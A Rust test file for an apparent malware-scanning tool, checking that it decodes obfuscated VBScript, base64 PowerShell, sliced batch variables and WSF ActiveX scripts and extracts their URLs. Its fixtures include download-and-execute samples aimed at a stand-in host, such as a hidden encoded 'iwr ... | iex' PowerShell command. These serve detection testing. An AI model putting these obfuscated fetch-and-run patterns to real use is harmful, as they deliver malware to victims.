//! Scripts by their findings and the texts that they gave.

use proptest::prelude::*;

use crate::{Hints, Input, unpack};

fn check(name: &str, source: &str) -> String {
    let bytes = bytes::Bytes::copy_from_slice(source.as_bytes());
    let tree = unpack("", vec![Input { name: name.to_owned(), declared: None, bytes }], &Hints::default());
    let mut out = Vec::new();
    for file in &tree.files {
        let findings = file.findings.iter().filter(|f| f.id.name().starts_with("SCRIPT-"));
        out.extend(findings.map(|f| format!("{:?} {} {}", f.severity, f.id.name(), f.evidence)));
        let urls = file.indicators.iter().filter(|i| i.kind == crate::IndicatorKind::Url);
        out.extend(urls.map(|i| i.value.clone()));
    }
    out.join("\n")
}

#[test]
fn vbscript_strings_are_put_together() {
    let source = "Dim u\nu = \"ht\" & Chr(116) & \"p://a.\" & _\r\n \"test/\" & StrReverse(\"exe.x\")\n\
                  Set h = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\nh.Open \"GET\", u, False\n";
    let found = check("a.vbs", source);
    assert!(found.contains("High SCRIPT-ATTACHMENT"), "{found}");
    assert!(found.contains("High SCRIPT-ACTIVEX MSXML2.XMLHTTP"), "{found}");
    assert!(found.contains("http://a.test/x.exe"), "{found}");
}

#[test]
fn powershell_commands_are_decoded() {
    use base64::Engine as _;
    let command = "iwr http://a.test/p.ps1 | iex";
    let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let text = base64::engine::general_purpose::STANDARD.encode(wide);
    let found = check("run.bat", &format!("@echo off\r\npowershell -nop -w hidden -Enc {text}\r\n"));
    assert!(found.contains("Medium SCRIPT-OBF a command in base64"), "{found}");
    assert!(found.contains("http://a.test/p.ps1"), "{found}");
}

#[test]
fn batch_variables_are_cut() {
    let source =
        "set x=ptht/:.asetb\r\n%x:~2,1%%x:~1,1%%x:~1,1%%x:~0,1%%x:~5,1%%x:~4,1%%x:~4,1%%x:~7,1%.test/y\r\n";
    let found = super::shell::batch(source, &mut crate::gaps::Gaps::default());
    assert_eq!(found.hidden, Some("commands are cut out of variables"));
    assert!(found.decoded.iter().any(|d| d.contains("http://a.test/y")), "{:?}", found.decoded);
}

#[test]
fn a_web_script_is_no_alarm() {
    let found = check("app.js", "export function add(a, b) { return a + b; }");
    // By its name it is what it is; its content says no more.
    assert!(found.contains("Medium SCRIPT-ATTACHMENT js") && !found.contains("SCRIPT-ACTIVEX"), "{found}");
}

#[test]
fn containers_are_opened() {
    let source = "<?xml version='1.0'?><job><script language=\"JScript\"><![CDATA[\
                  var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe /x');]]></script></job>";
    let found = check("a.wsf", source);
    assert!(found.contains("High SCRIPT-ACTIVEX WScript.Shell"), "{found}");
    assert!(found.contains("runs calc.exe /x"), "{found}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, ..ProptestConfig::default() })]

    #[test]
    fn any_script_is_read(name in proptest::sample::select(vec!["a.vbs", "a.ps1", "a.bat", "a.wsf", "a.jse", "a.js"]),
        text in "(\\PC|#@~\\^|%x:~1,-2%|set x=|Chr\\(|StrReverse\\(|Execute |\"|&|\\(|<script>|-enc |\n){0,80}") {
        check(name, &text);
    }
}
